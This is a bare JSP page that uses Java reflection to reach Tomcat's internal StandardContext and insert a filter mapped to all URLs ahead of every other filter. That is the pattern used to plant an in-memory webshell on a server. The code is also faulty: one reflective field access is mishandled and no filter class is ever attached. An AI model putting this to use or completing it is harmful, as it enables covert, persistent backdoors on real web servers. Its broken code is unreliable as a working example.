<%@ page import="org.apache.catalina.core.StandardContext, org.apache.tomcat.util.descriptor.web.*" %>
<%
    java.lang.reflect.Field f = application.getClass().getDeclaredField("context");
    f.setAccessible(true);
    StandardContext ctx = (StandardContext) ((org.apache.catalina.core.ApplicationContext) f.get(application)).getClass().getDeclaredField("context").get(null);
    FilterDef def = new FilterDef();
    def.setFilterName("x");
    ctx.addFilterDef(def);
    FilterMap map = new FilterMap();
    map.addURLPattern("/*");
    ctx.addFilterMapBefore(map);
%>
